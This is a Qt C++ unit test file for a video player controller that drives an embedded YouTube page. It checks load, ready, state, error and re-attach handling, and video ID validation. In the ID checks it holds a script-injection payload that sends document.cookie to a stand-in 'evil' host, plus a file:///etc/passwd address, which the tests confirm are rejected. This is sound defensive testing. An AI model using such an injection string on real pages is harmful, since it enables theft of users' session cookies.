#include "PlayerController.h"
#include "Bridge.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QSignalSpy>
#include <QTest>
#include <memory>

using namespace clipvane;

namespace {

// Records every script the controller sends.
class FakePage : public PlayerPage
{
public:
    explicit FakePage(QStringList &log)
        : m_log(log)
    {}
    void runScript(const QString &script) override { m_log << script; }

private:
    QStringList &m_log;
};

// A time-out the test fires by hand.
class FakeTimer : public OneShotTimer
{
public:
    void start(std::chrono::milliseconds interval, std::function<void()> fire) override
    {
        lastInterval = interval;
        m_fire = std::move(fire);
        m_active = true;
    }
    void stop() override { m_active = false; }
    bool isActive() const override { return m_active; }
    bool fire()
    {
        if (!m_active)
            return false;
        m_active = false;
        m_fire();
        return true;
    }
    std::chrono::milliseconds lastInterval{0};

private:
    std::function<void()> m_fire;
    bool m_active = false;
};

QJsonValue parsed(const QString &json)
{
    QJsonParseError error{};
    const QJsonDocument document = QJsonDocument::fromJson((u'[' + json + u']').toUtf8(), &error);
    if (error.error != QJsonParseError::NoError)
        qFatal("bad JSON in a test row: %s", qPrintable(json));
    return document.array().at(0);
}

// Drives one controller through a row's steps:
//   attach        a new page (the earlier one stays alive)
//   drop          the current page goes away
//   msg JSON      the page posts JSON through the bridge
//   load ID 0|1   load with autoplay off or on
//   play, pause   the operations of the same names
//   timeout       the loading time-out expires (when it runs)
struct Harness
{
    QStringList scripts;
    FakeTimer *timer = new FakeTimer;
    PlayerController controller{std::unique_ptr<OneShotTimer>(timer)};
    Bridge bridge{controller};
    std::vector<std::unique_ptr<FakePage>> pages;

    void run(const QStringList &steps)
    {
        for (const QString &step : steps) {
            const QString verb = step.section(u' ', 0, 0);
            const QString rest = step.section(u' ', 1);
            if (verb == u"attach") {
                pages.push_back(std::make_unique<FakePage>(scripts));
                controller.attach(pages.back().get());
            } else if (verb == u"drop") {
                pages.back().reset();
            } else if (verb == u"msg") {
                bridge.postMessage(parsed(rest));
            } else if (verb == u"load") {
                controller.load(rest.section(u' ', 0, 0), rest.section(u' ', 1, 1) == u"1");
            } else if (verb == u"play") {
                controller.play();
            } else if (verb == u"pause") {
                controller.pause();
            } else if (verb == u"timeout") {
                timer->fire();
            } else {
                qFatal("unknown step %s", qPrintable(step));
            }
        }
    }
};

const QString kReady = QStringLiteral(R"(msg {"t":"ready"})");

} // namespace

class PlayerControllerTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void steps_data()
    {
        QTest::addColumn<QStringList>("steps");
        QTest::addColumn<QStringList>("scripts");
        QTest::addColumn<bool>("playing");
        QTest::addColumn<bool>("loading");
        QTest::addColumn<QString>("error"); // empty: none
        QTest::addColumn<QString>("pending");

        const QString a = QStringLiteral("dQw4w9WgXcQ");
        const QString b = QStringLiteral("9bZkp7q19f0");
        const QString load = QStringLiteral("load ");
        const auto row = [](const char *name, const QStringList &steps, const QStringList &scripts, bool playing,
                            bool loading, const char *error, const QString &pending = {}) {
            QTest::newRow(name) << steps << scripts << playing << loading << QString::fromLatin1(error) << pending;
        };
        const auto cue = [](const QString &id) { return QStringLiteral("cueVideo(\"%1\")").arg(id); };
        const auto loadScript = [](const QString &id) { return QStringLiteral("loadVideo(\"%1\")").arg(id); };

        // Waiting for the page.
        row("no page: load waits", {load + a + u" 1"_qs}, {}, false, false, "", a);
        row("attached, not ready: load waits", {u"attach"_qs, load + a + u" 0"_qs}, {}, false, false, "", a);
        row("ready sends the pending cue", {u"attach"_qs, load + a + u" 0"_qs, kReady}, {cue(a)}, false, true, "");
        row("ready sends the pending load", {u"attach"_qs, load + a + u" 1"_qs, kReady}, {loadScript(a)}, true, true,
            "");
        row("two loads before ready: only the second, with its own flag",
            {u"attach"_qs, load + a + u" 1"_qs, load + b + u" 0"_qs, kReady}, {cue(b)}, false, true, "");
        row("second ready with nothing pending sends nothing", {u"attach"_qs, kReady, load + a + u" 0"_qs, kReady},
            {cue(a)}, false, true, "");
        row("play before ready only changes the flag", {u"attach"_qs, u"play"_qs}, {}, true, false, "");

        // The same video again.
        row("same video without autoplay does nothing",
            {u"attach"_qs, kReady, load + a + u" 0"_qs, load + a + u" 0"_qs}, {cue(a)}, false, true, "");
        row("same video with autoplay only plays", {u"attach"_qs, kReady, load + a + u" 0"_qs, load + a + u" 1"_qs},
            {cue(a), u"play()"_qs}, true, true, "");

        // The state table.
        const QStringList loaded{u"attach"_qs, kReady, load + a + u" 1"_qs};
        const auto after = [&](const char *message) { return loaded + QStringList{QString::fromLatin1(message)}; };
        row("state 1 plays, ends loading", after(R"(msg {"t":"state","s":1})"), {loadScript(a)}, true, false, "");
        row("state 0 ends", after(R"(msg {"t":"state","s":0})"), {loadScript(a)}, false, false, "");
        row("state 2 pauses", after(R"(msg {"t":"state","s":2})"), {loadScript(a)}, false, false, "");
        row("state 5 cued", after(R"(msg {"t":"state","s":5})"), {loadScript(a)}, false, false, "");
        row("state -1 ignored", after(R"(msg {"t":"state","s":-1})"), {loadScript(a)}, true, true, "");
        row("state 3 ignored", after(R"(msg {"t":"state","s":3})"), {loadScript(a)}, true, true, "");
        row("state 4 only ends loading", after(R"(msg {"t":"state","s":4})"), {loadScript(a)}, true, false, "");
        row("state 1.0 is the integer 1", after(R"(msg {"t":"state","s":1.0})"), {loadScript(a)}, true, false, "");
        row("state without a number is -1", after(R"(msg {"t":"state"})"), {loadScript(a)}, true, true, "");
        row("state as text is -1", after(R"(msg {"t":"state","s":"1"})"), {loadScript(a)}, true, true, "");
        row("state 1.5 is -1", after(R"(msg {"t":"state","s":1.5})"), {loadScript(a)}, true, true, "");
        row("state beyond int is -1", after(R"(msg {"t":"state","s":1e300})"), {loadScript(a)}, true, true, "");

        // Errors.
        row("error 150", after(R"(msg {"t":"error","c":150})"), {loadScript(a)}, false, false, "150");
        row("error without code is -1", after(R"(msg {"t":"error"})"), {loadScript(a)}, false, false, "-1");
        row("play keeps the error", after(R"(msg {"t":"error","c":101})") + QStringList{u"play"_qs},
            {loadScript(a), u"play()"_qs}, true, false, "101");
        row("same video keeps the error", after(R"(msg {"t":"error","c":101})") + QStringList{load + a + u" 0"_qs},
            {loadScript(a)}, false, false, "101");
        row("another video clears the error", after(R"(msg {"t":"error","c":101})") + QStringList{load + b + u" 0"_qs},
            {loadScript(a), cue(b)}, false, true, "");

        // Malformed messages.
        row("text body", after(R"(msg "ready")"), {loadScript(a)}, true, true, "");
        row("array body", after(R"(msg [{"t":"error"}])"), {loadScript(a)}, true, true, "");
        row("empty object", after("msg {}"), {loadScript(a)}, true, true, "");
        row("no type", after(R"(msg {"s":1})"), {loadScript(a)}, true, true, "");
        row("type not text", after(R"(msg {"t":1,"s":1})"), {loadScript(a)}, true, true, "");
        row("unknown type", after(R"(msg {"t":"volume","s":1})"), {loadScript(a)}, true, true, "");
        row("null body", after("msg null"), {loadScript(a)}, true, true, "");

        // Time-out.
        row("time-out ends loading only", loaded + QStringList{u"timeout"_qs}, {loadScript(a)}, true, false, "");

        // A new web view.
        row("re-attach while playing loads again", loaded + QStringList{u"attach"_qs, kReady},
            {loadScript(a), loadScript(a)}, true, true, "");
        row("re-attach while paused cues again", loaded + QStringList{u"pause"_qs, u"attach"_qs, kReady},
            {loadScript(a), u"pause()"_qs, cue(a)}, false, true, "");
        row("the old page gets nothing after re-attach", loaded + QStringList{u"attach"_qs, u"play"_qs},
            {loadScript(a)}, true, true, "", a);
        row("page gone while ready: load waits", loaded + QStringList{u"drop"_qs, load + b + u" 0"_qs}, {loadScript(a)},
            true, true, "", b);
        row("page gone: pause only changes the flag", loaded + QStringList{u"drop"_qs, u"pause"_qs}, {loadScript(a)},
            false, true, "");

        // Hostile or unplayable IDs are never loaded nor kept pending.
        const QString hostile = QStringLiteral("a');fetch('//evil/'+document.cookie);('");
        row("hostile ID, ready", {u"attach"_qs, kReady, load + hostile + u" 1"_qs}, {}, false, false, "");
        row("hostile ID before ready", {u"attach"_qs, load + hostile + u" 1"_qs, kReady}, {}, false, false, "");
        row("x- record", {u"attach"_qs, kReady, u"load x-abcdef12 1"_qs}, {}, false, false, "");
        row("quote inside an ID", {u"attach"_qs, kReady, u"load abc\"def 0"_qs}, {}, false, false, "");
    }

    void steps()
    {
        QFETCH(QStringList, steps);
        QFETCH(QStringList, scripts);
        QFETCH(bool, playing);
        QFETCH(bool, loading);
        QFETCH(QString, error);
        QFETCH(QString, pending);

        Harness h;
        h.run(steps);
        QCOMPARE(h.scripts, scripts);
        QCOMPARE(h.controller.isPlaying(), playing);
        QCOMPARE(h.controller.isLoading(), loading);
        QCOMPARE(h.timer->isActive(), loading);
        QCOMPARE(h.controller.embedError(), error.isEmpty() ? std::optional<int>() : std::optional<int>(error.toInt()));
        QCOMPARE(h.controller.pendingID().value_or(QString()), pending);
    }

    void loadingTimeoutIsTwentySeconds()
    {
        Harness h;
        h.run({u"attach"_qs, kReady, u"load dQw4w9WgXcQ 0"_qs});
        QCOMPARE(h.timer->lastInterval, std::chrono::milliseconds(20000));
    }

    void changeSignalsFollowTheValues()
    {
        Harness h;
        QSignalSpy playing(&h.controller, &PlayerController::isPlayingChanged);
        QSignalSpy loading(&h.controller, &PlayerController::isLoadingChanged);
        QSignalSpy error(&h.controller, &PlayerController::embedErrorChanged);
        h.run({u"attach"_qs, kReady, u"load dQw4w9WgXcQ 1"_qs, uR"(msg {"t":"error","c":2})"_qs});
        QCOMPARE(playing.count(), 2); // on, then off by the error
        QCOMPARE(loading.count(), 2);
        QCOMPARE(error.count(), 1);
    }

    void aBridgeOutlivingItsControllerIsHarmless()
    {
        auto controller = std::make_unique<PlayerController>();
        Bridge bridge(*controller);
        controller.reset();
        bridge.postMessage(parsed(QStringLiteral(R"({"t":"ready"})")));
    }

    void playableIDs_data()
    {
        QTest::addColumn<QString>("id");
        QTest::addColumn<bool>("playable");
        QTest::newRow("YouTube ID") << u"dQw4w9WgXcQ"_qs << true;
        QTest::newRow("with - and _") << u"a-b_c-d_e"_qs << true;
        QTest::newRow("letters of other scripts") << u"видеоролик"_qs << true;
        QTest::newRow("x- record") << u"x-1234567"_qs << false;
        QTest::newRow("too short") << u"abcde"_qs << false;
        QTest::newRow("empty") << QString() << false;
        QTest::newRow("quote") << u"abc'def"_qs << false;
        QTest::newRow("double quote") << u"abc\"def"_qs << false;
        QTest::newRow("backslash") << u"abc\\def"_qs << false;
        QTest::newRow("space") << u"abc def"_qs << false;
        QTest::newRow("line separator") << QString::fromUtf16(u"abcdef\u2028") << false;
        QTest::newRow("script") << u"a');fetch('//evil/'+document.cookie);('"_qs << false;
        QTest::newRow("unpaired surrogate") << u"abcdef"_qs + QChar(0xD800) << false;
    }

    void playableIDs()
    {
        QFETCH(QString, id);
        QFETCH(bool, playable);
        QCOMPARE(PlayerController::isPlayableID(id), playable);
    }

    void addresses_data()
    {
        QTest::addColumn<QString>("id");
        QTest::addColumn<QString>("url");
        QTest::addColumn<QString>("expected");
        QTest::newRow("stored link") << u"dQw4w9WgXcQ"_qs << u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs
                                     << u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs;
        QTest::newRow("empty: short link") << u"dQw4w9WgXcQ"_qs << QString() << u"https://youtu.be/dQw4w9WgXcQ"_qs;
        QTest::newRow("not a web address: short link")
            << u"dQw4w9WgXcQ"_qs << u"file:///etc/passwd"_qs << u"https://youtu.be/dQw4w9WgXcQ"_qs;
        QTest::newRow("relative: short link") << u"dQw4w9WgXcQ"_qs << u"watch"_qs << u"https://youtu.be/dQw4w9WgXcQ"_qs;
    }

    void addresses()
    {
        QFETCH(QString, id);
        QFETCH(QString, url);
        QFETCH(QString, expected);
        QCOMPARE(PlayerController::videoAddress(id, url).toString(), expected);
    }

    void playerPageOnTheServiceOrigin()
    {
        QCOMPARE(PlayerController::playerPageURL(QUrl(u"http://127.0.0.1:8470/api"_qs)).toString(),
                 u"http://127.0.0.1:8470/player.html"_qs);
        QCOMPARE(PlayerController::playerPageURL(QUrl(u"https://clipvane.example/sub/api/"_qs)).toString(),
                 u"https://clipvane.example/player.html"_qs);
    }
};

QTEST_GUILESS_MAIN(PlayerControllerTest)
#include "PlayerControllerTest.moc"
